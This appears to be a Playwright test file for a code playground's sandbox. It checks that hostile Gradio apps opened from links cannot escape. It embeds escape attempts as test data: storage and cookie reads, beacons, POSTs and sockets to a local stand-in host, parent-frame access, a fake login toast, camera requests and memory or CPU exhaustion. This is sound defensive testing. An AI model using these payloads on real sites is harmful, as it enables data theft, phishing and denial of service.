"""Hostile apps that came by a link: what each tries is stopped, and the page goes on."""

from __future__ import annotations

import functools
import http.server
import json
import re
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from bench import START, Bench
from conftest import Quiet, Watch
from playwright.sync_api import Page, expect

NOISE = (
    r"Content.Security.Policy",
    r"Not allowed to|not allowed|sandboxed|Blocked|blocked|denied|Failed to load|Unsafe attempt",
    r"Permissions policy|WebSocket|ERR_|status of|Unrecognized",
)
"""What the browser says in its console where it stops something."""


class Elsewhere(Quiet):
    """Another site, which lets every page read it and remembers who came."""

    came: list[str]

    def do_GET(self) -> None:  # noqa: N802  # http.server calls it so
        """Whatever it is, it is there."""
        self.came.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Type", "text/javascript")
        self.end_headers()
        self.wfile.write(b"export default 1")

    do_POST = do_GET  # noqa: N815  # the same


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """The origin of another site, and what was asked of it."""
    came: list[str] = []
    host = type("Here", (Elsewhere,), {"came": came})
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(host)) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://localhost:{server.server_port}", came
        server.shutdown()


@pytest.fixture
def bench(page: Page, watch: Watch, site: str) -> Bench:
    """The playground; what the browser says of what it stopped is expected."""
    watch.allow(*NOISE)
    page.goto(f"{site}/playground/")
    page.evaluate(
        """async () => {
          localStorage.setItem("secret", "ours");
          document.cookie = "secret=ours";
          await (await caches.open("ours")).put("/secret", new Response("ours"));
        }"""
    )
    return Bench(page, site)


IN_PYTHON = """
import json
import gradio as gr
import js

OURS, THEIRS = "{ours}", "{theirs}"
TRIES = {
    "fetch ours": "fetch('%s/apps/index.html').then(r => r.text())" % OURS,
    "fetch the page itself": "fetch('%s/playground/site.json').then(r => r.text())" % OURS,
    "fetch another": "fetch('%s/fetch').then(r => r.text())" % THEIRS,
    "fetch another, unread": "fetch('%s/unread', {mode: 'no-cors'})" % THEIRS,
    "post to another": "fetch('%s/post', {method: 'POST', body: 'x'})" % THEIRS,
    "request": "(() => { const x = new XMLHttpRequest(); x.open('GET', '%s/xhr', false); x.send(); return 1 })()" % THEIRS,
    "import": "import('%s/module.js')" % THEIRS,
    "socket": "new Promise((y, n) => { const s = new WebSocket('%s/ws'); s.onopen = y; s.onerror = n })" % THEIRS.replace("http", "ws"),
    "events": "new Promise((y, n) => { const s = new EventSource('%s/events'); s.onopen = y; s.onerror = n })" % THEIRS,
    "worker in a worker": "new Promise((y, n) => { const w = new Worker('data:text/javascript,fetch(`%s/nested`).then(() => postMessage(1), () => postMessage(0))', {type: 'module'}); w.onmessage = (e) => e.data ? y() : n(); w.onerror = n })" % THEIRS,
    "database": "new Promise((y, n) => { const r = indexedDB.open('ours'); r.onsuccess = y; r.onerror = n })",
    "caches": "caches.open('ours').then(c => c.match('/secret')).then(r => r.text())",
    "storage": "Promise.resolve(localStorage.getItem('secret'))",
    "files": "navigator.storage.getDirectory()",
    "cookies": "cookieStore.get('secret').then(c => c.value)",
}

async def attack():
    found = {}
    for name, code in TRIES.items():
        tried = "(async () => { await (%s) })().then(() => 'reached', () => 'stopped')" % code
        late = "new Promise((yes) => setTimeout(yes, 3000, 'stopped'))"
        found[name] = await js.eval("Promise.race([%s, %s])" % (tried, late))
    return json.dumps(found)

with gr.Blocks() as demo:
    run = gr.Button("Attack")
    out = gr.Textbox(label="found")
    run.click(attack, None, out)
demo.launch()
"""


def test_python_reaches_no_network_and_no_storage(
    bench: Bench, elsewhere: tuple[str, list[str]], site: str
) -> None:
    """Neither ours nor another's, by whatever the worker has; what the visitor allows, and only that."""
    theirs, came = elsewhere
    code = IN_PYTHON.replace("{ours}", site).replace("{theirs}", theirs)
    bench.visit_code(code)
    assert bench.page.locator("iframe").count() == 0  # nothing runs by itself
    bench.run().state("ready").press("Attack")
    field = bench.app.get_by_label("found")
    expect(field).not_to_have_value("", timeout=START)
    found = json.loads(field.input_value())
    assert set(found.values()) == {"stopped"}, found
    assert len(found) == 15
    assert came == []
    bench.answers()
    bench.page.get_by_role("button", name="End").click()
    bench.page.get_by_label("Let it fetch from these sites").fill(theirs)
    bench.run().state("ready").press("Attack")
    expect(field).not_to_have_value("", timeout=START)
    found = json.loads(field.input_value())
    assert {name for name, how in found.items() if how == "reached"} >= {"fetch another"}
    assert found["fetch ours"] == found["database"] == found["caches"] == "stopped"


IN_THE_PAGE = """
import gradio as gr

JS = '''async () => {
  const ours = "{ours}", theirs = "{theirs}";
  const soon = (act) => new Promise((yes, no) => { act(yes, no); setTimeout(() => no(new Error("nothing")), 1500) });
  const tries = {
    "local storage": () => localStorage.getItem("secret"),
    "session storage": () => sessionStorage.length,
    "cookies": () => { if (!document.cookie.includes("secret")) throw new Error("none") },
    "database": () => soon((yes, no) => { const r = indexedDB.open("ours"); r.onsuccess = yes; r.onerror = no }),
    "caches": () => caches.open("ours"),
    "service worker": () => navigator.serviceWorker.register("/sw.js"),
    "parent's document": () => parent.document.body.innerHTML,
    "parent's storage": () => parent.localStorage.getItem("secret"),
    "parent's address": () => parent.location.href,
    "top's address": () => { top.location.href = theirs + "/top" },
    "a window": () => { if (window.open(theirs + "/window") === null) throw new Error("none") },
    "fetch ours": () => fetch(ours + "/apps/index.html"),
    "fetch another": () => fetch(theirs + "/fetch"),
    "a picture": () => soon((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = theirs + "/picture" }),
    "a script": () => soon((yes, no) => { const s = document.createElement("script"); s.onload = yes; s.onerror = no; s.src = theirs + "/script.js"; document.head.append(s) }),
    "a style": () => soon((yes, no) => { const s = document.createElement("link"); s.rel = "stylesheet"; s.onload = yes; s.onerror = no; s.href = theirs + "/style"; document.head.append(s) }),
    "a prefetch": () => soon((yes, no) => { const s = document.createElement("link"); s.rel = "prefetch"; s.onload = yes; s.onerror = no; s.href = theirs + "/prefetch"; document.head.append(s) }),
    "a frame": () => soon((yes, no) => { const f = document.createElement("iframe"); f.src = theirs + "/frame"; f.onload = () => setTimeout(no, 500); document.body.append(f) }),
    "a form": () => soon((yes, no) => { const f = document.createElement("form"); f.action = theirs + "/form"; f.method = "post"; document.body.append(f); f.submit() }),
    "a beacon": () => { if (!navigator.sendBeacon(theirs + "/beacon", "x")) throw new Error("none"); throw new Error("the other site knows") },
    "the browser's own camera": () => MediaDevices.prototype.getUserMedia.call(navigator.mediaDevices, {video: true}),
    "the place": () => soon((yes, no) => navigator.geolocation.getCurrentPosition(yes, no)),
    "the whole screen": () => document.body.requestFullscreen(),
    "a dialog": () => { if (confirm("Tintype: log in again") === false) throw new Error("none") },
    "a socket": () => soon((yes, no) => { const s = new WebSocket(theirs.replace("http", "ws")); s.onopen = yes; s.onerror = no }),
    "calls": () => new RTCPeerConnection(),
    "a forged letter": () => { parent.postMessage({wish: {kind: "camera"}, news: {kind: "python", state: "owned"}}, "*"); throw new Error("nobody hears") },
  };
  const found = {};
  for (const [name, act] of Object.entries(tries)) {
    try { await act(); found[name] = "reached" } catch { found[name] = "stopped" }
  }
  return JSON.stringify(found);
}'''
SPOOF = '''() => {
  const toast = document.createElement("div");
  toast.style = "position: fixed; inset: -200px 0 auto 0; height: 400px; z-index: 2147483647; background: white";
  toast.innerHTML = "<p role=alert>Tintype: your session is over. <button>Log in</button></p>";
  document.body.append(toast);
  return "spoofed";
}'''
ASK = '''async () => {
  try { await navigator.mediaDevices.getUserMedia({video: true}); return "seen" }
  catch (error) { return error.name }
}'''
LEAVE = "() => { location.href = '{theirs}/left?all=' + document.body.innerText.length; return 'gone' }"

with gr.Blocks() as demo:
    out = gr.Textbox(label="found")
    for name, js in {"Attack": JS, "Spoof": SPOOF, "Ask": ASK, "Leave": LEAVE}.items():
        gr.Button(name).click(None, None, out, js=js)
demo.launch()
"""


def test_a_page_in_its_frame_gets_out_by_no_way(
    bench: Bench, elsewhere: tuple[str, list[str]], site: str
) -> None:
    """Storage, the page around it, the network, windows, the camera unasked, a toast like ours, another page."""
    theirs, came = elsewhere
    page = bench.page
    bench.visit_code(IN_THE_PAGE.replace("{ours}", site).replace("{theirs}", theirs))
    bench.run().state("ready").press("Attack")
    field = bench.app.get_by_label("found")
    expect(field).not_to_have_value("", timeout=START)
    found = json.loads(field.input_value())
    assert set(found.values()) == {"stopped"}, found
    assert len(found) == 27
    assert came == []
    assert page.url.startswith(bench.home)
    assert bench.question.count() == 0

    bench.press("Spoof")
    expect(field).to_have_value("spoofed")
    bar, frame = page.locator(".pg-shell").bounding_box(), page.locator("iframe").bounding_box()
    assert bar is not None
    assert frame is not None
    assert bar["y"] + bar["height"] <= frame["y"]  # what the page says is where no app can draw
    assert page.get_by_role("alert").filter(has_text="session").count() == 0

    bench.press("Ask")
    expect(bench.question).to_contain_text("see through your camera until it ends")
    bench.question.get_by_role("button", name="Refuse").click()
    expect(field).to_have_value("NotAllowedError")
    for _ in range(2):
        bench.press("Ask")
        bench.question.get_by_role("button", name="Refuse").click()
    expect(bench.question).to_have_count(0)
    bench.press("Ask")  # it was refused too often: the visitor is left alone
    expect(field).to_have_value("NotAllowedError")
    expect(bench.question).to_have_count(0)

    bench.press("Leave").state("left")
    expect(page.locator("iframe")).to_have_count(0)
    assert came == []
    bench.answers()


GREEDY = """
import gradio as gr
import numpy as np

def hoard():
    kept = []
    while True:
        kept.append(np.empty(2**27, np.uint8))

def spin():
    while True:
        pass

with gr.Blocks() as demo:
    out = gr.Textbox(label="found")
    gr.Button("Hoard").click(hoard, None, out)
    gr.Button("Spin").click(spin, None, out)
    gr.Button("Freeze").click(None, None, out, js="() => { for (;;) {} }")
demo.launch()
"""


def test_the_page_goes_on_whatever_an_app_uses_up(bench: Bench) -> None:
    """All memory, Python for ever, the frame's own thread for ever: each can be ended, and run again."""
    page = bench.page
    bench.visit_code(GREEDY).run().state("ready").press("Hoard")
    expect(page.locator(".pg-fault")).to_contain_text("MemoryError", timeout=START)
    bench.answers()
    for name in ("Spin", "Freeze"):
        page.get_by_role("button", name="Run again").click()
        bench.state("ready").press(name)
        bench.answers()
        assert page.evaluate("1 + 1") == 2
    page.get_by_role("button", name="End").click()
    expect(page.locator("iframe")).to_have_count(0)
    expect(page.get_by_role("heading", name="Run a stranger’s code?")).to_be_visible()


FRAGMENTS = json.loads((Path(__file__).parents[1] / "seam" / "links.json").read_text("utf-8"))


def test_a_hostile_link_is_a_sentence_and_nothing_else(bench: Bench) -> None:
    """Whatever is wrong with it: the visitor's own draft is there, and nothing ran."""
    page = bench.page
    wrong = [row for row in FRAGMENTS["refused"] if row["fragment"].startswith("code=")]
    bench.visit(wrong[0]["fragment"])
    page.evaluate("window.alert = () => { window.wasHit = true }")
    for row in [*wrong[1:], {"name": "enormous", "fragment": "code=1" + "A" * 1_000_000}]:
        page.evaluate("hash => { location.hash = ''; location.hash = hash }", row["fragment"])
        expect(page.locator(".pg-said")).to_have_text(
            re.compile(r"^(This link|A file of this app|The first file|An app in a link)")
        )
        assert page.locator("iframe").count() == 0
        assert "<" not in page.locator(".pg-said").inner_html()
    assert page.evaluate("window.wasHit") is None
    expect(page.locator(".cm-content")).to_contain_text("def flip(image)")
